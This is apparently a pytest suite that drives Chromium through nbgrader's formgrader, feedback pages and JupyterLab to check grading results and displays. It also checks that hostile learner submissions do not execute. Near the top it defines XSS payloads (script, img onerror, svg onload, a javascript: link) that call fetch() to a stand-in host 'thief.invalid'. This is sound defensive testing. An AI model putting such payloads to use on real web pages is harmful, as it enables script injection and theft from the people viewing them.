"""What people see: formgrader, a feedback page and a learner's JupyterLab in a real browser."""

from __future__ import annotations

import copy
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

pytest.importorskip("selenium", reason="selenium is not installed; it comes with the extra dev")

from selenium.webdriver.common.by import By

from exercises import load_catalogue
from tests.grader.nbgrader.browser import (
    TOKEN,
    Chromium,
    NotebookPage,
    jupyter,
    needs_chromium,
)
from tests.grader.nbgrader.course import LEFT_OUT, Folder, cell, code, filled, markdown

pytestmark = needs_chromium
THIEF = "thief.invalid"
STEAL = f"document.title='stolen';fetch('http://{THIEF}/')"
HOSTILE = f'<script>{STEAL}</script><img src=x onerror="{STEAL}"><svg onload="{STEAL}"></svg>'
SUMS_FIRST = "def dot(a, b):\n    return float(np.sum(a) * np.sum(b))"
SAYS_SUMS_FIRST = "You added each vector up first: multiply entry by entry, then add."
LEARNERS = ("ada", "ben", "broken", "mallory")
WITHOUT_NETWORK = {"127.0.0.1", "cdnjs.cloudflare.com"}  # nbgrader's pages load MathJax from there
MATHJAX = ("cdnjs.cloudflare.com", "MathJax is not defined")


@dataclass(frozen=True)
class Formgrader:
    """A course in formgrader; each learner has been graded there by its button."""

    folder: Folder
    address: str
    chromium: Chromium

    def open(self, page: str) -> None:
        """Open one of formgrader's pages."""
        self.chromium.open(f"{self.address}/formgrader/{page}")

    def open_submission(self, learner: str) -> None:
        """Open the page on which a person would grade a learner, by the links to it."""
        self.open(f"manage_students/{learner}/week1")
        self.chromium.find("#main-table a", "week1").click()
        self.chromium.find("#test-dot")

    def press(self, button: str, learner: str) -> str:
        """Press a button in a learner's row; return what the dialog says in the end."""
        self.open("manage_submissions/week1")
        for row in self.chromium.find_all("#main-table tr", len(LEARNERS)):
            if row.find_element(By.CSS_SELECTOR, ".student-id").text == learner:
                row.find_element(By.CSS_SELECTOR, f".{button} a").click()
        return self.chromium.find(".modal-body", f"'{learner}'").text

    def rows(self, page: str, count: int) -> list[str]:
        """Return the texts of a page's table, which has scores in it."""
        self.open(page)
        self.chromium.find("#main-table", " / ")
        return [row.text for row in self.chromium.find_all("#main-table tr", count)]


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    """Start the browser."""
    chromium = Chromium(tmp_path_factory.mktemp("chromium"))
    yield chromium
    chromium.driver.quit()


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Folder:
    """Make a course folder with a class in it: right, partly wrong, not JSON, and hostile."""
    folder = Folder(tmp_path_factory.mktemp("instructor") / "course")
    for done in (
        folder.grader("notebooks", "--out", str(folder.path), "--week", "week1"),
        folder.nbgrader("generate_assignment", "week1"),
    ):
        assert done.returncode == 0, done.stderr
    released = folder.notebook("release")
    folder.hand_in("ada", folder.notebook("source"))
    folder.hand_in("ben", filled(released, {"dot": SUMS_FIRST}))
    folder.hand_in("broken", HOSTILE.encode())
    hostile = filled(
        released,
        {
            "dot": f"def dot(a, b):\n    raise ValueError('''{HOSTILE}''')",
            "norm": f"def norm(x):\n    '''{HOSTILE}'''\n    return {HOSTILE!r}",
            "matmul": HOSTILE,
        },
    )
    cell(hostile, "question-matrix_products")["source"] = f"An answer. {HOSTILE}"
    shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": HOSTILE}}
    hostile["cells"][:0] = [
        markdown(f"# {HOSTILE}\n\n[here](javascript:{STEAL})", id="mine-1"),
        code(f"%%html\n{HOSTILE}", id="mine-2", outputs=[copy.deepcopy(shown)]),
    ]
    cell(hostile, "test-dot")["outputs"] = [copy.deepcopy(shown)]
    folder.hand_in("mallory", hostile)
    return folder


@pytest.fixture(scope="module")
def formgrader(folder: Folder, chromium: Chromium) -> Iterator[Formgrader]:
    """Grade the class in formgrader."""
    with jupyter(folder.path, folder.path.parent) as address:
        formgrader = Formgrader(folder, address, chromium)
        # This page lets the token in; those below it would only ask for one.
        formgrader.open(f"manage_assignments?token={TOKEN}")
        chromium.find("#main-table", "week1")
        for learner in LEARNERS:
            said = formgrader.press("autograde", learner)
            assert f"Successfully autograded 'week1' for student '{learner}'." in said
            assert "JudgeInSandbox" in said  # and no kernel
        yield formgrader


def nothing_was_stolen(chromium: Chromium, title: str) -> None:
    """Check that a page has done nothing but what it should."""
    assert chromium.driver.title == title
    assert chromium.hosts() <= WITHOUT_NETWORK
    errors = chromium.errors()
    assert not [e for e in errors if not any(known in e for known in MATHJAX)], errors


def test_what_is_hostile_would_be_noticed(chromium: Chromium, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(f"<title>page</title>{HOSTILE}", encoding="utf-8")
    chromium.open(page.as_uri())
    assert chromium.driver.title == "stolen"
    assert THIEF in chromium.hosts()
    assert chromium.errors()


class TestFormgrader:
    def test_the_scores_are_listed(self, formgrader: Formgrader) -> None:
        grades = formgrader.folder.grades()
        scores = {
            learner: sum(grade.score for grade in grades[learner].values()) for learner in LEARNERS
        }
        (week,) = (week for week in load_catalogue().weeks if week.name == "week1")
        of = week.points_of_code + week.points_by_hand
        assert scores["ada"] == week.points_of_code
        assert 0 < scores["ben"] < 2
        assert scores["broken"] == scores["mallory"] == 0
        rows = formgrader.rows("manage_submissions/week1", len(LEARNERS))
        for learner, row in zip(LEARNERS, rows, strict=True):
            assert f" {learner} " in row
            assert f" {scores[learner]:g} / {of:g}" in row
        nothing_was_stolen(formgrader.chromium, "nbgrader formgrade")
        mean = sum(scores.values()) / len(LEARNERS)
        (row,) = formgrader.rows("gradebook", 1)
        assert f" {len(LEARNERS)} {round(mean, 2):g} / {of:g}" in row
        rows = formgrader.rows("gradebook/week1/week1", len(LEARNERS))
        assert sum("Submission #" in row for row in rows) == len(LEARNERS)

    def test_a_verdict_stands_at_its_cell(self, formgrader: Formgrader, tmp_path: Path) -> None:
        formgrader.open_submission("ben")
        chromium = formgrader.chromium
        verdict = chromium.find(".output_html", SAYS_SUMS_FIRST)
        assert verdict.text.startswith("partly right, ")
        assert "✓ For vectors of one entry it is their product, as a single number" in verdict.text
        comment = chromium.find("#answer-dot-comment")
        said = chromium.wait(lambda: comment.get_attribute("placeholder"), "comment on dot")
        assert SAYS_SUMS_FIRST in " ".join(said.split())
        chromium.show(verdict)
        chromium.picture(tmp_path / "submission.png")
        nothing_was_stolen(chromium, "week1")

    def test_what_is_no_notebook_is_called_so(self, formgrader: Formgrader) -> None:
        formgrader.open_submission("broken")
        formgrader.chromium.find(".output_html", "unreadable, 0 of 2 points: week1.ipynb is not")
        nothing_was_stolen(formgrader.chromium, "week1")

    def test_nothing_that_a_learner_wrote_runs(self, formgrader: Formgrader) -> None:
        formgrader.open_submission("mallory")
        verdict = formgrader.chromium.find(".output_html", "raised ValueError at week1.ipynb")
        assert "<script>" in verdict.text
        nothing_was_stolen(formgrader.chromium, "week1")

    @pytest.mark.parametrize(
        ("learner", "says"), [("ben", SAYS_SUMS_FIRST), ("mallory", "<script>")]
    )
    def test_the_feedback_page(
        self, formgrader: Formgrader, tmp_path: Path, learner: str, says: str
    ) -> None:
        said = formgrader.press("generate-feedback", learner)
        assert "Successfully generated feedback" in said
        chromium = formgrader.chromium
        page = formgrader.folder.path / "feedback" / learner / "week1" / "week1.html"
        chromium.open(page.as_uri())
        verdict = chromium.find(".output_html", says)
        chromium.show(verdict)
        chromium.picture(tmp_path / "feedback.png")
        nothing_was_stolen(chromium, "week1")

    def test_what_the_gradebook_command_wrote_is_shown_too(self, formgrader: Formgrader) -> None:
        """One more learner, with modules, graded by `run`."""
        folder = formgrader.folder
        modules = folder.submitted / "zoe" / "week1"
        modules.mkdir(parents=True)
        (modules / "vectors.py").write_text(f"import numpy as np\n\n\n{SUMS_FIRST}\n", "utf-8")
        submitted, grades = str(folder.submitted), str(folder.path.parent / "grades")
        for done in (
            folder.grader("run", submitted, "--out", grades, "--learner", "zoe"),
            folder.grader(
                "gradebook", grades, "--course", str(folder.path), "--submitted", submitted
            ),
        ):
            assert done.returncode == 0, done.stderr
        formgrader.open_submission("zoe")
        verdict = formgrader.chromium.find(".output_html", SAYS_SUMS_FIRST)
        assert verdict.text.startswith("partly right, ")
        nothing_was_stolen(formgrader.chromium, "week1")


def test_a_learner_solves_an_exercise_in_jupyterlab(
    folder: Folder, chromium: Chromium, tmp_path: Path
) -> None:
    released, source = folder.notebook("release"), folder.notebook("source")
    shutil.copytree(folder.path / "release", tmp_path / "learner")
    # Without our packages: the learner has what lies beside the notebook.
    with jupyter(tmp_path / "learner", tmp_path, PYTHONPATH=str(LEFT_OUT)) as address:
        chromium.open(f"{address}/lab/tree/week1/week1.ipynb?token={TOKEN}")
        page = NotebookPage(chromium, released["cells"])
        assert page.run("setup") == ""
        assert page.run("answer-dot") == ""
        assert "· dot: to do · 0/3 tests · 0/2 points" in page.run("check-dot")
        page.run("answer-dot", SUMS_FIRST)
        said = page.run("check-dot")
        assert "the result is another number" in said
        assert "✗ dot: wrong · 0/3 tests · 0/2 points" in said
        chromium.picture(tmp_path / "wrong.png")
        page.run("answer-dot", cell(source, "answer-dot")["source"])
        assert "✓ dot: done · 3/3 tests · 2/2 points" in page.run("check-dot")
        assert page.run("test-dot") == "2.0"
        chromium.picture(tmp_path / "done.png")
        assert not chromium.errors()
        assert chromium.hosts() == {"127.0.0.1"}
